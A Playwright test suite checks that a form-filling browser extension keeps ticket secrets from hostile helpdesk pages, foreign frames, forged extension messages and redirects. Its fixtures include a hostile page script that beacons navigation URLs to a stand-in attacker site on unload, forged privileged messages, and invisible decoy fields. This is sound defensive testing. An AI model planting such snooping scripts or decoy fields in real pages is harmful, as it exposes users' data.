import { expect, type Page, test } from '@playwright/test';
import { targetProblems } from '../../lib/district/target-check.ts';
import { buildWithHost } from '../browsers/with-host.ts';
import { deliverInto, filling, planFor } from './kit/deliver.ts';
import {
  ELSEWHERE,
  ELSEWHERE_HOST,
  HOSTILE,
  HOSTILE_HOST,
  type HostileDesk,
  startHostileDesk,
} from './kit/hostile-desk.ts';
import {
  hostileAddress,
  hostileTarget,
  impossibleTarget,
  SECRET,
  secretBody,
  secretTicket,
} from './kit/hostile-ticket.ts';
import { inIsolatedWorlds } from './kit/isolated.ts';
import { kept } from './kit/kept.ts';
import { expectFlagsRead, shippedBuild, useLens } from './kit/lens.ts';
import { watching } from './kit/watching-page.ts';

let desk: HostileDesk;
const closers: (() => unknown)[] = [];

/** The extension may enter both sites, so that what is not filled in elsewhere is not for want of a permission. */
const lens = useLens(async () => {
  desk = await startHostileDesk();
  const first = buildWithHost(shippedBuild, HOSTILE);
  const build = buildWithHost(first.path, ELSEWHERE);
  closers.push(desk.close, first.remove, build.remove);
  return { extensionPath: build.path, hostMap: { [HOSTILE_HOST]: desk.port, [ELSEWHERE_HOST]: desk.port } };
});

test.beforeEach(() => {
  desk.pages.clear();
  desk.asked.length = 0;
});
test.afterAll(async () => {
  for (const close of closers.splice(0)) await close();
});

const form = '<p><label>Summary <input name="s"></label></p>';
const details = '<p><label>Details <textarea name="d" rows="9"></textarea></label></p>';
const both = form + details;
const plan = () => planFor(hostileTarget, secretTicket);

/** Opens the form, as after a press of the review's button. */
async function begin() {
  const campus = await lens.open('about:blank');
  return { campus, ...(await deliverInto(lens.browser, lens.inside, campus.id, plan())) };
}

/** Everything that the fields of a page's frames hold. */
const held = async (page: Page) => {
  const each = await Promise.all(
    page
      .frames()
      .map((frame) =>
        frame.evaluate(() =>
          [...document.querySelectorAll('input,textarea')].map((one) => (one as HTMLInputElement).value),
        ),
      ),
  );
  return each.flat().filter((value) => value !== '');
};
const step = async (tabId: number) =>
  JSON.parse(String(await lens.browser.readSession(`fill:${tabId}`))).step as number;
const seenBy = (page: Page) => page.evaluate(() => [...(window as unknown as { seen: string[] }).seen].sort());

test('a desk that watches everything sees a part of the ticket when it stands in its field, and no sooner', async () => {
  // Step 2's page is drawn by the person's press; until then the desk must know nothing of it.
  desk.pages.set(
    `${HOSTILE}/new`,
    `${watching('Second line')}${form}<button onclick="this.outerHTML = document.querySelector('template').innerHTML">Next</button><template>${details}</template>`,
  );
  const { page, tabId } = await begin();
  await expect.poll(() => step(tabId)).toBe(1);
  await expect(page.locator('[name=s]')).toHaveValue(`Subject ${SECRET}`);
  expect(await seenBy(page)).toEqual([]);
  await page.getByRole('button', { name: 'Next' }).click();
  await filling(lens.browser, tabId, 'filled');
  await expect(page.locator('[name=d]')).toHaveValue(secretBody);
  // It can read its own field, and hear that it was filled: it is the desk. By no patched function did the text pass.
  // Its look at all fields comes by its own clock.
  await expect.poll(() => seenBy(page)).toContain('field');
  const places = await seenBy(page);
  expect(places.filter((place) => !/^(field|event (input|change|focusin|beforeinput))$/.test(place))).toEqual([]);
  // Nothing was pressed, and the text was in no address.
  expect(desk.asked.filter((one) => !one.startsWith('GET') || one.includes(SECRET))).toEqual([]);
});

test('a desk gets no answer to any message, and nothing is sent or kept for it', async () => {
  desk.pages.set(`${HOSTILE}/new`, both);
  const { campus, page, tabId } = await begin();
  await filling(lens.browser, tabId, 'filled');
  const before = await kept(lens.inside);
  const tabs = lens.browser.context.pages().length;
  const messages = forged(campus.id, tabId);
  const replies = await page.evaluate(
    async ({ messages, id }) => {
      let replies = 0;
      const channels = ['tickets', 'campus-lens', id].map((name) => new BroadcastChannel(name));
      for (const channel of channels) channel.onmessage = () => (replies += 1);
      addEventListener('message', ({ data }) => (replies += data?.forged ? 0 : 1));
      const runtime = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime;
      if (runtime?.sendMessage) replies += 1;
      for (const message of messages) {
        window.postMessage({ ...(message as object), forged: true }, '*');
        for (const channel of channels) channel.postMessage(message);
        for (const target of [window, document, document.body])
          for (const name of ['campus-lens', 'campus-lens.filler', id, (message as { type: string }).type])
            target.dispatchEvent(new CustomEvent(name, { detail: message, bubbles: true }));
      }
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      return replies;
    },
    { messages, id: lens.browser.extensionId },
  );
  expect(replies).toBe(0);
  expect(await kept(lens.inside)).toBe(before);
  expect(lens.browser.context.pages()).toHaveLength(tabs);
  expect(desk.asked.filter((one) => one.startsWith('POST'))).toEqual([]);
});

/** What only the extension's own pages may ask, as they ask it: captured and sent again, or made up. */
function forged(from: number, tabId: number) {
  const id = '0b6c1d2e-3f40-4a51-8b62-9c73ad84be95';
  const about = { id, mark: 'CL-TEST', checks: [], host: '', studentNumber: null };
  const open = {
    targetId: 'x',
    kind: 'open',
    url: `${ELSEWHERE}/stolen`,
    copy: null,
    carries: null,
    withheld: false,
    shortened: false,
  };
  return [
    { type: 'deliver', tabId: from, plan: plan(), about },
    { type: 'deliver', tabId: from, plan: open, about },
    { type: 'ticket', id, act: 'try' },
    { type: 'ticket', id, act: 'confirm', number: '1' },
    { type: 'fill', tabId, what: 'again' },
    { type: 'fill', tabId, what: 'back' },
    { type: 'fill', tabId, what: 'end' },
    { type: 'desk-form', tabId, plan: null },
    { type: 'structure', tabId: from },
    { type: 'teach', tabId: from, subject: { kind: 'header' } },
    { type: 'erase' },
    { type: 'fetch-tasks' },
  ];
}

test('scripts in the worlds of Campus and of a desk cannot do what only our own pages may', async () => {
  desk.pages.set(`${HOSTILE}/new`, both);
  const { campus, page, tabId } = await begin();
  await filling(lens.browser, tabId, 'filled');
  await campus.page.goto(lens.campus.url('new-look-kendo', 'portal-empty'));
  // From then on the report of a page at rest stays as it is.
  await expectFlagsRead(lens.browser, campus);
  const before = await kept(lens.inside);
  const tabs = lens.browser.context.pages().length;
  desk.asked.length = 0;
  const messages = JSON.stringify(forged(campus.id, tabId));
  const sending = `(async () => {
    const replies = [];
    for (const message of ${messages})
      replies.push(await chrome.runtime.sendMessage(message).catch((error) => 'refused: ' + error.message));
    return { replies: replies.filter((one) => one !== undefined && one !== null), storage: typeof chrome.storage?.session?.get,
      session: await chrome.storage?.session?.get().then(() => 'read', () => 'refused'), scripting: typeof chrome.scripting?.executeScript, tabs: typeof chrome.tabs };
  })()`;
  for (const one of [campus.page, page]) {
    const worlds = await inIsolatedWorlds(one, lens.browser.extensionId, sending);
    expect(worlds.length).toBeGreaterThan(0);
    for (const world of worlds)
      expect(world).toMatchObject({
        replies: [],
        session: expect.stringMatching('refused'),
        scripting: 'undefined',
        tabs: 'undefined',
      });
  }
  expect(await kept(lens.inside)).toBe(before);
  expect(lens.browser.context.pages()).toHaveLength(tabs);
  expect(desk.asked).toEqual([]);
});

test('frames of another site, sandboxed frames, and the desk inside another site get nothing', async () => {
  desk.pages.set(`${ELSEWHERE}/frame`, both);
  desk.pages.set(`${HOSTILE}/stranger`, both);
  desk.pages.set(
    `${HOSTILE}/new`,
    `<h1>Loading</h1><iframe src="${ELSEWHERE}/frame"></iframe><iframe sandbox="allow-scripts" src="${HOSTILE}/stranger"></iframe>`,
  );
  const { page, tabId } = await begin();
  await filling(lens.browser, tabId, 'not-there');
  expect(await held(page)).toEqual([]);
  // The tab goes to a page that has put the desk's own form into itself; the person asks to fill in again.
  desk.pages.set(`${HOSTILE}/inner`, both);
  desk.pages.set(`${ELSEWHERE}/outer`, `<iframe src="${HOSTILE}/inner" style="opacity:0"></iframe>`);
  desk.pages.set(`${HOSTILE}/new`, both);
  await page.goto(`${ELSEWHERE}/outer`);
  await lens.inside.evaluate((id) => {
    void chrome.runtime.sendMessage({ type: 'fill', tabId: id, what: 'again' });
  }, tabId);
  // The form is opened anew, in its own window; nothing was filled where it stood.
  await page.waitForURL(`${HOSTILE}/new`);
  await filling(lens.browser, tabId, 'filled');
  expect(desk.asked.join()).not.toContain(SECRET);
});

test('a desk that leads to another site in the middle of a fill: nothing is filled in there', async () => {
  desk.pages.set(`${ELSEWHERE}/new`, both);
  desk.pages.set(
    `${HOSTILE}/new`,
    `${form}<script>document.querySelector('input').addEventListener('input', () => location.replace('${ELSEWHERE}/new'));</script>`,
  );
  const { page, tabId } = await begin();
  await page.waitForURL(`${ELSEWHERE}/new`);
  await page.waitForLoadState('load');
  await lens.inside.evaluate((id) => chrome.runtime.sendMessage({ type: 'fill', tabId: id, what: 'end' }), tabId);
  expect(await held(page)).toEqual([]);
  expect(await page.content()).not.toContain(SECRET);
});

test('a desk whose first page leads to another site: that site does not learn the address with the ticket in it', async () => {
  const listening = `<script>window.heard = []; navigation.addEventListener('navigate', (event) => heard.push(event.destination.url));
document.addEventListener('click', (event) => heard.push(String(event.target.href)), true);
addEventListener('beforeunload', () => fetch('/heard', { method: 'POST', keepalive: true, body: heard.join() }));</script>`;
  desk.pages.set(`${HOSTILE}/first`, `<script>location.replace('${ELSEWHERE}/sign-in')</script>`);
  desk.pages.set(`${ELSEWHERE}/sign-in`, listening);
  const campus = await lens.open('about:blank');
  const { page } = await deliverInto(lens.browser, lens.inside, campus.id, planFor(hostileAddress, secretTicket));
  await page.waitForURL(`${HOSTILE}/create**`);
  // It comes from nowhere, as if a person had typed it; and the values are as they were reviewed.
  const { searchParams } = new URL(page.url());
  expect([searchParams.get('Subject'), searchParams.get('Content')]).toEqual([`Subject ${SECRET}`, secretBody]);
  await expect.poll(() => desk.asked.find((one) => one.startsWith('POST'))).toBeTruthy();
  expect(desk.asked.filter((one) => one.includes(ELSEWHERE) && one.includes(SECRET))).toEqual([]);
});

test('places that cannot be: nothing is filled in, and each is told', async () => {
  expect(targetProblems(impossibleTarget, 'targets.0').map(({ path }) => path)).toEqual([
    'targets.0.steps.0.fields.0.to.css',
  ]);
  desk.pages.set(`${HOSTILE}/new`, `${form}<input type="password" name="pw" hidden>`);
  const campus = await lens.open('about:blank');
  const { page, tabId } = await deliverInto(
    lens.browser,
    lens.inside,
    campus.id,
    planFor(impossibleTarget, secretTicket),
  );
  const { problems } = await filling(lens.browser, tabId, 'partly');
  expect(problems.map(({ why }) => why)).toEqual(['not-there', 'wrong-kind', 'not-there', 'wrong-kind']);
  expect(await held(page)).toEqual([]);
});

test('fields that nobody sees catch nothing, and the one that is seen is filled', async () => {
  const decoy = (style: string, at = '') =>
    `<div style="${at}"><label>Summary <input class="decoy" style="${style}"></label></div>`;
  desk.pages.set(
    `${HOSTILE}/new`,
    [
      decoy('display:none'),
      decoy('visibility:hidden'),
      decoy('opacity:0'),
      decoy('opacity:.02'),
      decoy('position:absolute;left:-9999px'),
      decoy('position:fixed;top:-500px'),
      decoy('width:0;height:0;border:0;padding:0'),
      decoy('', 'opacity:0'),
      decoy('', 'height:0;overflow:hidden'),
      decoy('position:relative;top:-300px', 'height:50px;overflow:hidden'),
      `<iframe style="opacity:0" srcdoc="${form.replaceAll('"', '&quot;')}"></iframe>`,
      '<div id="late"></div>',
      // What is seen comes last, and its label is found by a lesser way than that of the others.
      `<script>setTimeout(() => { document.getElementById('late').innerHTML = '<table><tr><td>Summary:</td><td><input name="real"></td></tr></table>${details}'; }, 700);</script>`,
    ].join(''),
  );
  const { page, tabId } = await begin();
  await filling(lens.browser, tabId, 'filled');
  await expect(page.locator('[name=real]')).toHaveValue(`Subject ${SECRET}`);
  expect((await held(page)).sort()).toEqual([secretBody, `Subject ${SECRET}`].sort());
});
